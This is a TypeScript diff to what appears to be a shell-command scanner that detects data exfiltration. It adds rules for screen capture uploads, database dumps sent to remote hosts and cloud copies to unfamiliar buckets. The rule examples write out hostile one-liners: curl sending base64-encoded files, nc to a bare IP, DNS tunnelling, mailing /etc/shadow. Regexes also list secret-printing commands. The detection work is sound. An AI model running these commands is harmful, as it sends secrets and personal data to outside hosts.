@@ -6,7 +6,7 @@ import { plainPath } from '../files/plain-path.ts';
 import { secretFileAt } from '../files/secret-files.ts';
 import { around, operandsOf, optionValues, pipedInto, type Seen } from './lines.ts';
 import { searchForSecrets, secretsReadBy } from './reading.ts';
-import { sharingRules, tellSharing } from './shared-out.ts';
+import { folderServed, sharingRules, tellSharing } from './shared-out.ts';
 import { tellThroughEnvironment } from './through-environment.ts';
 
 const T = 'MITRE ATT&CK ';
@@ -21,6 +21,7 @@ const fileToDrop = ruleOf(
 const outputInAddress = ruleOf(
   'exfiltration.output-in-address', 'network_exfiltration', 'high', 'a command’s output carried out in an address or a parameter', shell('curl "https://c.example.net/?d=$(cat notes.txt | base64 -w0)"'), shell('curl "https://api.example.com/v1/builds/$(git rev-parse HEAD)"'), `${T}T1048.003`,
 );
+const personWatched = ruleOf('exfiltration.person-watched', 'network_exfiltration', 'high', 'a picture of the screen, a recording or captured traffic sent to another host', shell('scrot /tmp/s.png; curl -F f=@/tmp/s.png https://up.example.net/s'), shell('scrot /tmp/s.png; xdg-open /tmp/s.png'), `${T}T1113, T1123, T1040`);
 const dnsTunnel = ruleOf('exfiltration.dns-tunnel', 'network_exfiltration', 'high', 'data carried out in the names of a DNS or ping request', shell('dig $(whoami | base64).t.example.net'), shell('dig +short "$HOST.example.com"'), `${T}T1048.003, T1071.004`);
 const rawChannel = ruleOf('exfiltration.raw-channel', 'network_exfiltration', 'high', 'a file or a command’s output written to a bare connection', shell('nc 203.0.113.9 9001 < notes.txt'), shell('nc -zv db.internal 5432'), `${T}T1095`);
 const copyOut = ruleOf('exfiltration.copy-out', 'network_exfiltration', 'high', 'databases, homes or personal data copied to a foreign host', shell('scp customers.csv x@203.0.113.9:/tmp/'), shell('scp dist/app.tgz deploy@web-1:/srv/app/'), `${T}T1048`);
@@ -28,10 +29,9 @@ const cloudCopy = ruleOf('exfiltration.cloud-copy', 'network_exfiltration', 'hig
 const repositoryPush = ruleOf(
   'exfiltration.repository-push', 'network_exfiltration', 'high', 'a whole repository pushed to a remote that was just named', shell('git remote add x https://203.0.113.9/r.git && git push x --all'), shell('git remote add upstream https://github.com/acme/app.git && git fetch upstream'), `${T}T1567.001`,
 );
-const folderServed = ruleOf('exfiltration.folder-served', 'network_exfiltration', 'high', 'the whole disk or a home served to the network', shell('python3 -m http.server 8000 --directory /'), shell('python3 -m http.server 8000 --directory dist'), `${T}T1048`);
 const mailOut = ruleOf('exfiltration.mail', 'network_exfiltration', 'high', 'secrets sent by mail from the command line', shell('mail -s x a@example.net < /etc/shadow'), shell('mail -s "build done" dev@example.com < report.txt'), `${T}T1048.003`);
 
-export const exfiltrationRules: readonly Rule[] = [secretsSent, bulkSent, fileToDrop, outputInAddress, dnsTunnel, rawChannel, copyOut, cloudCopy, repositoryPush, folderServed, mailOut, ...sharingRules];
+export const exfiltrationRules: readonly Rule[] = [secretsSent, bulkSent, fileToDrop, outputInAddress, personWatched, dnsTunnel, rawChannel, copyOut, cloudCopy, repositoryPush, mailOut, ...sharingRules];
 
 /** Files that are worth something in bulk, by their names. */
 const VALUABLE =
@@ -39,12 +39,14 @@ const VALUABLE =
 const PERSONAL = /(?:customer|clients?|employee|payroll|salar|contract|invoice|patient|member|billing|financ|tax|passport|credential|secret|passw|private|confidential|wallet|personnel|payment|medical)[^/]{0,60}(?:\.|\/?$)|(?:^|\/)\.(?:git|ssh|aws|gnupg|kube|env[^/]*)\/?$|(?:^|\/)(?:documents|desktop)\/?$|^~\/?$|^\/(?:etc|home|root)\/?$/;
 const DUMPS = /^(?:clickhouse-backup|pg_basebackup|pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport|redis-dump|sqlite3|ldapsearch|influxd|etcdctl|sqldump)$/;
 const ARCHIVES = /^(?:tar|zip|7z|7za|rar|cpio|git|bsdtar|dump|dd|borg)$/;
-const CAPTURES = /^(?:pbpaste|xclip|xsel|wl-paste|screencapture|scrot|grim|maim|arecord|parecord|xinput|showkey|logkeys|imagesnap|fswebcam)$/;
+const CAPTURES = /^(?:pbpaste|xclip|xsel|wl-paste|screencapture|scrot|grim|maim|arecord|parecord|xinput|showkey|logkeys|imagesnap|fswebcam|gnome-screenshot|spectacle|import|flameshot|sox|rec|tcpdump|tshark|dumpcap)$/;
 const ENVIRONMENTS = /^(?:env|printenv|history|set)$/;
 const ENCODERS = /^(?:base64|base32|xxd|od|hexdump|gzip|bzip2|xz|openssl|gpg|tr|sed|head|fold|rev|split|uuencode|paste|cut|zstd|awk|while|read)$/;
 
 /** Commands whose output is a secret. */
 const PRINTS_SECRETS = /^(?:gh auth token|glab auth .*-t|gcloud auth (?:application-default )?print-(?:access|identity)-token|gcloud secrets versions access|aws sts (?:get-session-token|assume-role)|aws secretsmanager (?:batch-)?get-secret-value|aws ssm get-parameter.*--with-decryption|aws configure (?:export-credentials|get)|aws ecr get-login-password|az account get-access-token|az keyvault secret show|az storage account keys|kubectl (?:\S+ ){0,4}get (?:secrets?|secret\/\S+)(?:\s|$)|kubectl config view.*--raw|kubectl create token|oc whoami -t|vault (?:kv get|read|token)|op (?:read|item get)|pass show|bw (?:get|list|export)|lpass (?:show|export)|doppler secrets|infisical secrets|chamber (?:read|export)|heroku config|security (?:find-(?:generic|internet)-password|dump-keychain)|secret-tool lookup|git credential fill|npm token|docker config inspect|sops -d|ansible-vault (?:view|decrypt)|terraform (?:output|state pull)|declare -p|typeset -p|gpg .*--export-secret|(?:echo|printf) .*\$\{?\w{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|CREDENTIALS?)\w{0,20}\b)/;
+/** A link that lets whoever has it read a file of a store. */
+const LINKS = /^(?:aws s3 presign|gsutil signurl|gcloud storage sign-url|az storage (?:blob|container|account|fs) generate-sas)\b/;
 const HOLDS_SECRETS = new Set('gh glab gcloud aws az kubectl oc vault op pass bw lpass doppler infisical chamber heroku security secret-tool git npm docker sops ansible-vault terraform declare typeset gpg openssl echo printf psql mysql mariadb sqlite3 mongosh mongo sqlcmd bq snowsql clickhouse-client'.split(' '));
 /** A query for people's data. */
 const SELECTS_PEOPLE = /\bfrom\s+["`[]?(?:\w{1,40}[.])?\w{0,30}(?:users?|customers?|clients?|employees?|patients?|members?|accounts?|people|persons?|payments?|cards?|contacts?|orders|credentials|secrets|tokens)\b|\.dump\b|\.find\(/i;
@@ -165,16 +167,21 @@ function uploads(seen: Seen, command: Command, at: number, tell: Tell): void {
 
   for (const file of files) {
     if (isSecretPath(file) || standsForSecrets(seen, command, at, file)) tell(secretsSent);
+    else if (isTakenBefore(seen, at, file)) tell(personWatched);
     else if (isSuspect(target) || (name === 'wget' && target === 'unknown')) tell(fileToDrop);
     else if (isValuable(file) && PERSONAL.test(plainPath(file))) tell(bulkSent);
   }
   if (reads || command.wrappers.includes('xargs')) {
     const worth = worthPiped(seen, command, at);
-    if (worth === 'secret') tell(secretsSent);
+    if (worth === 'secret' || pipedInto(command).some(({ name: source, args: given }) => LINKS.test([source, ...given.slice(0, 4).map(({ text }) => text)].join(' ')))) tell(secretsSent);
     else if (worth === 'bulk') tell(bulkSent);
     else if (worth === 'text' && isSuspect(target)) tell(fileToDrop);
   }
 }
+
+/** A picture of the screen, a recording or a capture that the script has made: `scrot /tmp/s.png; curl -F f=@/tmp/s.png …`. */
+const isTakenBefore = ({ script }: Seen, at: number, file: string): boolean =>
+  file.length > 2 && script.commands.slice(Math.max(0, at - 32), at).some(({ name, args }) => CAPTURES.test(name) && args.slice(0, 32).some(({ text }) => text === file));
 
 /** A loop's variable, or what `find` puts in place of `{}`. */
 function standsForSecrets({ script }: Seen, command: Command, at: number, file: string): boolean {
@@ -192,7 +199,12 @@ function connections(seen: Seen, command: Command, at: number, tell: Tell): void
   if (name === 'socat') {
     const [, host = ''] = /(?:tcp[46]?|udp[46]?|openssl|ssl|sctp)(?:-connect|-datagram|-sendto)?:([^:,\s]{1,253}):/i.exec(line) ?? [];
     const file = /\b(?:file|open|gopen|exec|system):"?([^,\s"]{1,300})/i.exec(line)?.[1];
-    if (host !== '' && isForeign(destinationOf(host)) && file !== undefined && !/^(?:\/bin\/)?(?:ba|z)?sh/.test(file)) tell(isSecretPath(file) ? secretsSent : rawChannel);
+    if (host === '' || !isForeign(destinationOf(host))) return;
+    if (file !== undefined && !/^(?:\/bin\/)?(?:ba|z)?sh/.test(file)) tell(isSecretPath(file) ? secretsSent : rawChannel);
+    else if (args.some(({ text }) => /^(?:-|stdin|stdio)$/i.test(text))) {
+      const worth = worthPiped(seen, command, at);
+      if (worth !== 'none') tell(worth === 'secret' ? secretsSent : rawChannel);
+    }
     return;
   }
   if (/(?:^|\s)-[a-z]*[lz]/.test(line)) return;
@@ -219,6 +231,15 @@ function copies({ view }: Seen, command: Command, tell: Tell): void {
   }
 }
 
+const DATABASE_CLIENTS = /^(?:mysql|mariadb|psql|pg_restore|mongorestore|mongoimport|clickhouse-client|redis-cli|sqlcmd|cockroach|influx)$/;
+
+/** A dump that is piped into a database at a bare address. */
+function loads(seen: Seen, command: Command, at: number, tell: Tell): void {
+  if (command.pipedFrom === undefined || worthPiped(seen, command, at) !== 'bulk') return;
+  const hosts = [...optionValues(command, 'hHS', /^(?:host|server|uri|url|dbname)$/).map(({ text }) => text), ...command.args.slice(0, 32).map(({ text }) => text).filter((text) => /^[a-z+]{4,12}:\/\/|\bhost=/.test(text))];
+  if (hosts.some((text) => isSuspect(destinationOf(hostIn(text.replace(/^.*\bhost=/, '')))))) tell(bulkSent);
+}
+
 /** `put file`, as an argument, in a here-document or a here-string. */
 function tellTransfers(script: string, command: Command, tell: Tell): void {
   const { args, redirects, input, end, pipedFrom } = command;
@@ -243,6 +264,8 @@ function bucketCopies(command: Command, line: string, tell: Tell): void {
   const words = operandsOf(command).map(({ text }) => text);
   if (!COPIES.test(line.slice(0, 120)) && !words.some((word) => word.length < 16 && COPIES.test(word))) return;
   if (/--(?:acl|predefined-acl)[= ]public-?read/i.test(line) && words.some((word, at) => at > 0 && /^(?:s3|gs):\/\//.test(word) && /^(?:s3|gs):\/\//.test(words[at + 1] ?? ''))) return tell(cloudCopy);
+  if (goesToStrangers(words)) return tell(cloudCopy);
+  if (command.name === 'rclone' && words.some((word, at) => at > 1 && /^:?mega(?:,[^:]{0,80})?:/i.test(word))) return tell(cloudCopy);
   // A remote that is made up on the command line: `:ftp,host=203.0.113.9:`.
   const [, host] = /\s:\w{2,12},(?:[^\s:]{0,200},)?(?:host|url|endpoint|account)=["']?([^\s,:"']{3,253})/.exec(line) ?? [];
   if (command.name === 'rclone' && host !== undefined && isSuspect(destinationOf(host))) return tell(cloudCopy);
@@ -253,6 +276,23 @@ function bucketCopies(command: Command, line: string, tell: Tell): void {
     if (isSecretPath(word)) tell(secretsSent);
     else if (PERSONAL.test(plainPath(word)) || (isValuable(word) && /(?:public|pub|drop|exfil|anon|tmp|leak|mega)[a-z0-9-]*(?:\/|:|$)/i.test(words[to] ?? ''))) tell(cloudCopy);
   }
+}
+
+/** Stores by whose names one sees what is in them. */
+const VALUABLE_STORE = /backup|prod|customer|client|patient|payroll|employee|financ|invoice|billing|medical|confidential|private|secret|dump|user|crm|legal|\bhr\b|pii|vault|\/(?:db|database)/i;
+/** What names of stores have in common without having an owner in common. */
+const GENERIC = new Set('backup backups prod production data bucket storage files archive export exports public logs dev test staging west east north south central main temp assets media'.split(' '));
+const tokensOfStore = (name: string): readonly string[] => name.toLowerCase().split(/[^a-z]+/).filter((token) => token.length >= 3 && !GENERIC.has(token));
+
+/** From one store to another whose name shares no word with it: `s3://acme-prod-backups` to `s3://zk-7781`. */
+function goesToStrangers(words: readonly string[]): boolean {
+  const stores = words.filter((word) => /^(?:s3|gs|oss|cos|b2|az):\/\/[\w.-]{3,80}|^https:\/\/[\w-]{3,40}\.(?:blob|dfs|file)\.core\.windows\.net\//.test(word)).slice(0, 2);
+  const [from, to] = stores;
+  if (from === undefined || to === undefined || !VALUABLE_STORE.test(from)) return false;
+  const owner = (store: string): string => /^https?:/.test(store) ? (hostIn(store).split('.', 1)[0] ?? '') : hostIn(store);
+  const [here, there] = [owner(from), owner(to)];
+  const own = tokensOfStore(here);
+  return here !== there && own.length > 0 && !own.some((token) => there.toLowerCase().includes(token)) && !tokensOfStore(there).some((token) => here.toLowerCase().includes(token)) && here.slice(0, 4) !== there.slice(0, 4);
 }
 
 const TRIVIAL_OUTPUT = /^(?:git|date|hostname|uname|nproc|pwd|basename|dirname|jq|echo|printf|node|python3?|npm|yq|seq|curl|id|cut|head|tail|tr|sed|awk|grep|openssl|uuidgen|docker|kubectl|aws|gcloud|az|terraform|heroku|lsb_release|dpkg|cat|wc|expr|minikube|arch|realpath|which|sort|rustc|go|ip|mktemp|urlencode)$/;
@@ -314,6 +354,7 @@ function pushes({ script, view }: Seen): void {
 export function tellExfiltration(seen: Seen): void {
   const { view, lines } = seen;
   let git = false;
+  let folder = '';
   const descriptors = new Set<string>();
   for (const { command, text, at } of lines) {
     const tell: Tell = (rule) => view.report(rule, firstOf(command).start, command.end);
@@ -328,8 +369,10 @@ export function tellExfiltration(seen: Seen): void {
     else if (/^(?:mail|mailx|mutt|sendmail|swaks|msmtp|s-nail)$/.test(name)) {
       tellMail(seen, command, at, tell);
     } else if (name === 'ssh') tellSsh(seen, command, at, tell);
+    else if (DATABASE_CLIENTS.test(name)) loads(seen, command, at, tell);
     else if (HANDS_OUT.test(name)) tellHandedOut(command, text, tell);
-    else if (/^python[23]?$/.test(name) && SERVES.test(text)) tell(folderServed);
+    else if (/^python[23]?$/.test(name) && (SERVES.test(text) || (/-m (?:http\.server|SimpleHTTPServer)\b(?!.*(?:--directory|-d|127\.|localhost))/.test(text) && folder !== '' && WHOLE.test(folder)))) tell(folderServed);
+    else if (name === 'cd') folder = operandsOf(command)[0]?.text ?? '~';
     else if (name === 'openssl' && /^openssl s_client\b/.test(text) && (worthPiped(seen, command, at) !== 'none' || command.redirects.some(({ operator, target }) => operator === '<' && target?.text !== '/dev/null'))) tell(rawChannel);
     else if (name === 'git') git = true;
     for (const redirect of command.redirects) {
